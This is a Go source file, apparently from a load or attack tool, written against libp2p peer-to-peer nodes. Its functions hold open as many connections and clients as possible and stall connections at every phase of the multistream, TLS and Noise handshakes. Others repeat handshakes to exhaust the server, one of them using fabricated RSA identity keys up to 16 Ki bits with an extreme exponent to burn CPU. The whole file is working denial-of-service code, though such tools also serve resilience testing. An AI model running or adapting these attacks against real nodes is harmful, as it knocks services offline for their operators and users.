package main

import (
	"context"
	"crypto/rand"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"time"

	fnoise "github.com/flynn/noise"
	cryptopb "github.com/libp2p/go-libp2p/core/crypto/pb"
	"github.com/libp2p/go-libp2p/p2p/security/noise"
	noisepb "github.com/libp2p/go-libp2p/p2p/security/noise/pb"
	libp2ptls "github.com/libp2p/go-libp2p/p2p/security/tls"
	mss "github.com/multiformats/go-multistream"
	"google.golang.org/protobuf/proto"
)

const (
	dialersAtOnce = 64
	maxRSABits    = 16 * 1024
)

// holdMany opens what it is told to, as often as it can, and keeps up to -n of them open.
func (a *attacker) holdMany(what string, open func() (end func(), err error)) error {
	held := held{most: a.peers}
	defer held.closeAll()
	a.repeat(dialersAtOnce, func() error {
		end, err := open()
		if err != nil {
			return err
		}
		a.count(what, 1)
		held.keep(end)
		return nil
	})
	return nil
}

// holdConnections makes whole connections, as many as it can up to -n, and keeps them without a word.
func holdConnections(a *attacker) error {
	return a.holdMany("connections", func() (func(), error) {
		s, err := a.session()
		if err != nil {
			return nil, err
		}
		return s.end, nil
	})
}

// holdClients makes whole clients, which say who they are and ask once; over TLS where it is offered.
func holdClients(a *attacker) error {
	return a.holdMany("clients", func() (func(), error) {
		c, err := a.identity()
		if err != nil {
			return nil, err
		}
		if err := c.join(); err != nil {
			c.close()
			return nil, err
		}
		return c.close, nil
	})
}

// phasesOfSilence are how far a connection gets before it falls silent.
var phasesOfSilence = []func(a *attacker, conn *net.TCPConn) error{
	func(*attacker, *net.TCPConn) error { return nil },
	func(_ *attacker, conn *net.TCPConn) error {
		_, err := conn.Write(delimited([]byte("/multistream/1.0.0\n")))
		return err
	},
	func(_ *attacker, conn *net.TCPConn) error {
		_, err := conn.Write(proposal(string(libp2ptls.ID))[:30])
		return err
	},
	func(_ *attacker, conn *net.TCPConn) error { return mss.SelectProtoOrFail(string(libp2ptls.ID), conn) },
	sayClientHello,
	func(_ *attacker, conn *net.TCPConn) error { return mss.SelectProtoOrFail(string(noise.ID), conn) },
	sayNoiseMessage1,
	secureWithoutMuxer,
}

// holdHalfOpen stops connections in every phase of the handshake, and one phase beyond, up to -n at a time.
func holdHalfOpen(a *attacker) error {
	held := held{most: a.peers}
	defer held.closeAll()
	a.repeat(dialersAtOnce, func() error {
		phase := int(a.next.Load()) % (len(phasesOfSilence) + 1)
		if phase == len(phasesOfSilence) {
			s, err := a.session()
			if err != nil {
				return err
			}
			held.keep(s.end)
			a.count("silent streams", 1)
			return s.write(s.stream(delimited([]byte("/multistream/1.0.0\n")), 0))
		}
		conn, _, err := a.dialRaw()
		if err != nil {
			return err
		}
		held.keep(func() { conn.Close() })
		conn.SetDeadline(time.Now().Add(a.dialTimeout))
		a.count("half-open", 1)
		return phasesOfSilence[phase](a, conn)
	})
	return nil
}

// deaf hears nothing of the answers.
type deaf struct{ net.Conn }

func (deaf) Read([]byte) (int, error) { return 0, io.EOF }

func sayClientHello(_ *attacker, conn *net.TCPConn) error {
	if err := mss.SelectProtoOrFail(string(libp2ptls.ID), conn); err != nil {
		return err
	}
	client := tls.Client(deaf{conn}, &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS13, NextProtos: []string{"libp2p"}})
	if err := client.Handshake(); !errors.Is(err, io.EOF) {
		return err
	}
	return nil
}

func sayNoiseMessage1(_ *attacker, conn *net.TCPConn) error {
	if err := mss.SelectProtoOrFail(string(noise.ID), conn); err != nil {
		return err
	}
	key := make([]byte, 32)
	rand.Read(key)
	_, err := conn.Write(lengthBefore(key))
	return err
}

func secureWithoutMuxer(a *attacker, conn *net.TCPConn) error {
	c, err := a.newClient(0)
	if err != nil {
		return err
	}
	transport, err := noise.New(noise.ID, c.key, nil)
	if err != nil {
		return err
	}
	if err := mss.SelectProtoOrFail(string(noise.ID), conn); err != nil {
		return err
	}
	_, err = transport.SecureOutbound(context.Background(), conn, a.serverID)
	return err
}

// burnHandshakes proves who it is, by TLS or Noise (-sec), and leaves at once.
func burnHandshakes(a *attacker) error {
	a.repeat(dialersAtOnce, func() error {
		c, err := a.identity()
		if err != nil {
			return err
		}
		if err := c.connect(); err != nil {
			return err
		}
		a.count("handshakes", 1)
		c.close()
		return nil
	})
	return nil
}

// burnStrangeKeys proves itself with RSA keys from 2 Ki to 16 Ki bits that nobody has made, over Noise.
func burnStrangeKeys(a *attacker) error {
	a.repeat(dialersAtOnce, func() error {
		bits := 2048 << (a.next.Load() % 4)
		conn, _, err := a.dialRaw()
		if err != nil {
			return err
		}
		defer conn.Close()
		conn.SetDeadline(time.Now().Add(a.dialTimeout))
		if err := mss.SelectProtoOrFail(string(noise.ID), conn); err != nil {
			return err
		}
		if err := strangeHandshake(conn, bits); err != nil {
			return err
		}
		a.count("handshakes", 1)
		// who it is not takes the server until it hangs up
		_, err = io.Copy(io.Discard, conn)
		return err
	})
	return nil
}

// strangeHandshake is Noise XX up to the last message, which has an RSA key of so many random bits and a signature as long.
func strangeHandshake(conn net.Conn, bits int) error {
	suite := fnoise.NewCipherSuite(fnoise.DH25519, fnoise.CipherChaChaPoly, fnoise.HashSHA256)
	static, err := suite.GenerateKeypair(rand.Reader)
	if err != nil {
		return err
	}
	state, err := fnoise.NewHandshakeState(fnoise.Config{CipherSuite: suite, Pattern: fnoise.HandshakeXX, Initiator: true, StaticKeypair: static})
	if err != nil {
		return err
	}
	first, _, _, err := state.WriteMessage(nil, nil)
	if err != nil {
		return err
	}
	if _, err := conn.Write(lengthBefore(first)); err != nil {
		return err
	}
	var length [2]byte
	if _, err := io.ReadFull(conn, length[:]); err != nil {
		return err
	}
	second := make([]byte, binary.BigEndian.Uint16(length[:]))
	if _, err := io.ReadFull(conn, second); err != nil {
		return err
	}
	if _, _, _, err := state.ReadMessage(nil, second); err != nil {
		return err
	}
	signature := make([]byte, bits/8)
	rand.Read(signature[1:])
	key, err := proto.Marshal(&cryptopb.PublicKey{Type: cryptopb.KeyType_RSA.Enum(), Data: rsaKey(bits)})
	if err != nil {
		return err
	}
	payload, err := proto.Marshal(&noisepb.NoiseHandshakePayload{IdentityKey: key, IdentitySig: signature})
	if err != nil {
		return err
	}
	third, _, _, err := state.WriteMessage(nil, payload)
	if err != nil {
		return err
	}
	_, err = conn.Write(lengthBefore(third))
	return err
}

// rsaKey is the DER of a SubjectPublicKeyInfo with a random odd modulus and the largest exponent that Go takes.
func rsaKey(bits int) []byte {
	modulus := make([]byte, bits/8)
	rand.Read(modulus)
	modulus[0] |= 0x80
	modulus[len(modulus)-1] |= 1
	integers := append(der(0x02, append([]byte{0}, modulus...)), der(0x02, []byte{0x7f, 0xff, 0xff, 0xff})...)
	algorithm := []byte{0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05, 0x00}
	return der(0x30, append(algorithm, der(0x03, append([]byte{0}, der(0x30, integers)...))...))
}

func der(tag byte, content []byte) []byte {
	if len(content) < 128 {
		return append([]byte{tag, byte(len(content))}, content...)
	}
	if len(content) < 256 {
		return append([]byte{tag, 0x81, byte(len(content))}, content...)
	}
	return append([]byte{tag, 0x82, byte(len(content) >> 8), byte(len(content))}, content...)
}

func lengthBefore(message []byte) []byte {
	return append(binary.BigEndian.AppendUint16(nil, uint16(len(message))), message...)
}
